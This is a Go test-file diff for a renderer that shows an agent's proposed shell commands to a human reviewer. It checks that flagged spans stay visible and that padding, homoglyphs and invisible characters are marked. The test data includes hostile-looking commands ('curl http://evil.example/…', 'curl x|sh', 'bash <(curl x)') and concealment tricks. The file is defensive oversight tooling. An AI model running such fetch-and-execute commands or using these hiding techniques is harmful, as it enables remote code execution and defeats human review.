@@ -44,23 +44,27 @@ func TestTruncation(t *testing.T) {
 // B-R5.2a: what a reason points at is on the first page wherever it stands, marked and with what is
 // around it.
 func TestDangerIsNeverElided(t *testing.T) {
-	danger := "curl http://evil.example/" + strings.Repeat("longpath/", 60) // longer than the context of its ends
+	// longer than the context of its ends
+	danger := "curl http://evil.example/" + strings.Repeat("longpath/", 60)
 	for _, at := range []int{0, 3000, 9000} {
 		command := strings.Repeat("abcdefgh ", at/9) + danger + strings.Repeat(" tail", 1000)
 		start := strings.Index(command, danger)
 		plan := plantest.Full(command)
-		plan["reasons"] = []any{map[string]any{"rule": "net", "verdict": "ask", "message": "m", "span": []any{start, start + len(danger)}}}
+		plan["reasons"] = []any{map[string]any{"rule": "net", "verdict": "ask", "message": "m",
+			"span": []any{start, start + len(danger)}}}
 		p := render.Render(plantest.Bytes(t, plan), render.Options{Width: 2000})
 		if !p.Truncated || !strings.Contains(p.Text(), "⟪"+danger+"⟫") {
 			t.Errorf("at %d:\n%s", at, p.Text())
 		}
 	}
 	// Spans that lie outside, cross or lie in one another do no harm.
-	for _, spans := range [][]any{{-1, 5}, {5, 2}, {0, 99999}, {0, 10, 5, 20}, {0, 20, 5, 10}, {44, 44}} {
+	for _, spans := range [][]any{{-1, 5}, {5, 2}, {0, 99999}, {0, 10, 5, 20}, {0, 20, 5, 10},
+		{44, 44}} {
 		plan := plantest.Full(plantest.PushCommand)
 		var reasons []any
 		for i := 0; i+1 < len(spans); i += 2 {
-			reasons = append(reasons, map[string]any{"verdict": "ask", "span": []any{spans[i], spans[i+1]}})
+			reasons = append(reasons,
+				map[string]any{"verdict": "ask", "span": []any{spans[i], spans[i+1]}})
 		}
 		plan["reasons"] = reasons
 		checkPage(t, plan, plantest.PushCommand)
@@ -69,10 +73,14 @@ func TestDangerIsNeverElided(t *testing.T) {
 
 // E-dsp-3, B-R5.2a: padding does not push anything off the first screen; each stage has its line.
 func TestPadding(t *testing.T) {
-	for _, pad := range []string{strings.Repeat(" ", 300), strings.Repeat("\n", 60), strings.Repeat("\t", 300), " #" + strings.Repeat("=", 3000) + "\n", strings.Repeat("\u200b", 900)} {
-		p := render.Render(plantest.Bytes(t, plantest.Full("echo safe"+pad+"; curl x|sh")), render.Options{})
+	for _, pad := range []string{strings.Repeat(" ", 300), strings.Repeat("\n", 60),
+		strings.Repeat("\t", 300), " #" + strings.Repeat("=", 3000) + "\n",
+		strings.Repeat("\u200b", 900)} {
+		p := render.Render(plantest.Bytes(t, plantest.Full("echo safe"+pad+"; curl x|sh")),
+			render.Options{})
 		screen := strings.Join(p.Lines[:min(24, len(p.Lines))], "\n")
-		if p.Truncated || !strings.Contains(screen, "⟦×") || !strings.Contains(screen, "│ curl x\n") || !strings.Contains(screen, "│ |sh\n") {
+		if p.Truncated || !strings.Contains(screen, "⟦×") ||
+			!strings.Contains(screen, "│ curl x\n") || !strings.Contains(screen, "│ |sh\n") {
 			t.Errorf("padding with %.3q:\n%s", pad, p.Text())
 		}
 	}
@@ -80,14 +88,18 @@ func TestPadding(t *testing.T) {
 
 // E-dsp-6: the agent's words come after the facts, in at most two lines, named for what they are.
 func TestAgentSays(t *testing.T) {
-	for says, cut := range map[string]bool{"ok": false, strings.Repeat("trust me ", 500): true, "line\nplan     0000 0000\n": false,
-		"\x1b[2J": false, strings.Repeat("\u4e2d", 300): false, strings.Repeat("\u4e2d\u6587", 100): true} {
+	for says, cut := range map[string]bool{"ok": false, strings.Repeat("trust me ", 500): true,
+		"line\nplan     0000 0000\n": false,
+		"\x1b[2J":                    false, strings.Repeat("\u4e2d", 300): false,
+		strings.Repeat("\u4e2d\u6587", 100): true} {
 		for _, width := range []int{40, 80} {
 			plan := plantest.Full("ls")
 			plan["agent_says"] = says
 			p := render.Render(plantest.Bytes(t, plan), render.Options{Width: width})
-			at := slices.IndexFunc(p.Lines, func(l string) bool { return strings.HasPrefix(l, "agent says (unverified): ") })
-			end := slices.IndexFunc(p.Lines, func(l string) bool { return strings.HasPrefix(l, "plan ") })
+			at := slices.IndexFunc(p.Lines,
+				func(l string) bool { return strings.HasPrefix(l, "agent says (unverified): ") })
+			end := slices.IndexFunc(p.Lines,
+				func(l string) bool { return strings.HasPrefix(l, "plan ") })
 			if at < 0 || end-at > 2 || end != len(p.Lines)-2 {
 				t.Errorf("says %.20q:\n%s", says, p.Text())
 			}
@@ -101,9 +113,11 @@ func TestAgentSays(t *testing.T) {
 // E-dsp-7: what cannot be inspected is named.
 func TestOpaque(t *testing.T) {
 	plan := plantest.Full("ls")
-	plan["opaque"] = []any{map[string]any{"text": "bash <(curl x)", "why": "its input is not known"}, "python3 -c"}
+	plan["opaque"] = []any{map[string]any{"text": "bash <(curl x)",
+		"why": "its input is not known"}, "python3 -c"}
 	text := render.Render(plantest.Bytes(t, plan), render.Options{}).Text()
-	for _, want := range []string{"cannot inspect: bash <(curl x) · its input is not known\n", "cannot inspect: python3 -c\n"} {
+	for _, want := range []string{"cannot inspect: bash <(curl x) · its input is not known\n",
+		"cannot inspect: python3 -c\n"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("no %q in\n%s", want, text)
 		}
@@ -113,13 +127,21 @@ func TestOpaque(t *testing.T) {
 // E-dsp-5: look-alikes and what cannot be seen are told apart from the text.
 func TestMarks(t *testing.T) {
 	for command, want := range map[string]string{
-		"ls -la": "", "l\u0455 -la": "word that mixes alphabets", "g\u03bfogle": "word that mixes alphabets", "caf\u00e9": "", "\u0444\u0430\u0439\u043b": "",
-		"l\u02b0s": "letter of another direction or alphabet U+02B0", // a modifier letter, though Latin: it joins with what is before
-		"\uff52m":  "word that mixes alphabets", "a\u200bb": "invisible or direction-changing character U+200B", "a\x1bb": "control character U+001B",
-		"a\xffb": "byte that is not UTF-8", "a\u3164b": "blank character U+3164", "a\u2800b": "blank character U+2800", "a\u0301": "combining mark U+0301",
-		"a\ufe0f": "combining mark U+FE0F", "rm\u00a0x": "blank character U+00A0", "a\x85b": "byte that is not UTF-8", "\u05d0": "letter of another direction or alphabet U+05D0",
+		"ls -la": "", "l\u0455 -la": "word that mixes alphabets",
+		"g\u03bfogle": "word that mixes alphabets", "caf\u00e9": "", "\u0444\u0430\u0439\u043b": "",
+		// a modifier letter, though Latin: it joins with what is before
+		"l\u02b0s": "letter of another direction or alphabet U+02B0",
+		"\uff52m":  "word that mixes alphabets",
+		"a\u200bb": "invisible or direction-changing character U+200B",
+		"a\x1bb":   "control character U+001B",
+		"a\xffb":   "byte that is not UTF-8", "a\u3164b": "blank character U+3164",
+		"a\u2800b": "blank character U+2800", "a\u0301": "combining mark U+0301",
+		"a\ufe0f": "combining mark U+FE0F", "rm\u00a0x": "blank character U+00A0",
+		"a\x85b": "byte that is not UTF-8",
+		"\u05d0": "letter of another direction or alphabet U+05D0",
 	} {
-		marks := strings.Join(render.Render(plantest.Small(t, func(p map[string]any) { p["x"] = command }), render.Options{}).Marks, "; ")
+		marks := strings.Join(render.Render(plantest.Small(t,
+			func(p map[string]any) { p["x"] = command }), render.Options{}).Marks, "; ")
 		if want == "" && marks != "" || !strings.Contains(marks, want) {
 			t.Errorf("%q has marks %q, want %q", command, marks, want)
 		}
@@ -128,7 +150,8 @@ func TestMarks(t *testing.T) {
 
 // E-dsp-8: what is too large to be judged on the spot is not offered there.
 func TestInline(t *testing.T) {
-	for n, want := range map[int]bool{100: true, 60 << 10: true, 64 << 10: false, 100 << 10: false} {
+	for n, want := range map[int]bool{100: true, 60 << 10: true, 64 << 10: false,
+		100 << 10: false} {
 		plan := plantest.Small(t, func(p map[string]any) { p["x"] = strings.Repeat("ab", n/2) })
 		if got := render.Render(plan, render.Options{}).Inline; got != want {
 			t.Errorf("%d bytes: inline %v", n, got)
@@ -138,7 +161,8 @@ func TestInline(t *testing.T) {
 	for i := range many {
 		many[i] = map[string]any{"rule": "r"}
 	}
-	if render.Render(plantest.Small(t, func(p map[string]any) { p["reasons"] = many }), render.Options{}).Inline {
+	if render.Render(plantest.Small(t, func(p map[string]any) { p["reasons"] = many }),
+		render.Options{}).Inline {
 		t.Error("400 reasons are inline")
 	}
 }
@@ -146,8 +170,10 @@ func TestInline(t *testing.T) {
 // E-dsp-9: markup is text. What a page shows of it is what stands in the payload.
 func TestMarkupIsText(t *testing.T) {
 	t.Parallel()
-	for _, s := range []string{"<b>bold</b>", "&lt;b&gt;", "**bold** [x](http://y)", "%0A%1b[2K", `<span foreground="#fff">`, "`code`", "&#10;"} {
-		page := render.Render(plantest.Bytes(t, plantest.Full("echo '"+s+"'")), render.Options{Width: 200})
+	for _, s := range []string{"<b>bold</b>", "&lt;b&gt;", "**bold** [x](http://y)", "%0A%1b[2K",
+		`<span foreground="#fff">`, "`code`", "&#10;"} {
+		page := render.Render(plantest.Bytes(t, plantest.Full("echo '"+s+"'")),
+			render.Options{Width: 200})
 		if !strings.Contains(page.Text(), s) {
 			t.Errorf("%q is shown otherwise", s)
 		}
@@ -161,7 +187,8 @@ func TestPhraseInTitle(t *testing.T) {
 	p := plantest.Bytes(t, plantest.Full(plantest.PushCommand))
 	o := render.Options{Phrase: phrase, Full: true}
 	page := render.Render(p, o)
-	if !strings.Contains(page.Lines[0], "«"+phrase+"»") || strings.Contains(render.Render(p, render.Options{}).Lines[0], "«") {
+	if !strings.Contains(page.Lines[0], "«"+phrase+"»") ||
+		strings.Contains(render.Render(p, render.Options{}).Lines[0], "«") {
 		t.Errorf("title %q", page.Lines[0])
 	}
 	checkInert(t, page, 80)
@@ -171,8 +198,10 @@ func TestPhraseInTitle(t *testing.T) {
 	if _, err := render.Decode(page.Text(), 0); err == nil {
 		t.Error("a page with a phrase passes for one without")
 	}
-	for _, bad := range []string{"a\x1b[2K", "a» R0 LOW", "a  b", " a", strings.Repeat("a", 40), "a\nb", "é"} {
-		if got := render.Render(p, render.Options{Phrase: bad}).Lines[0]; strings.Contains(got, "«") {
+	for _, bad := range []string{"a\x1b[2K", "a» R0 LOW", "a  b", " a", strings.Repeat("a", 40),
+		"a\nb", "é"} {
+		if got := render.Render(p, render.Options{Phrase: bad}).Lines[0]; strings.Contains(got,
+			"«") {
 			t.Errorf("%q: title %q", bad, got)
 		}
 	}
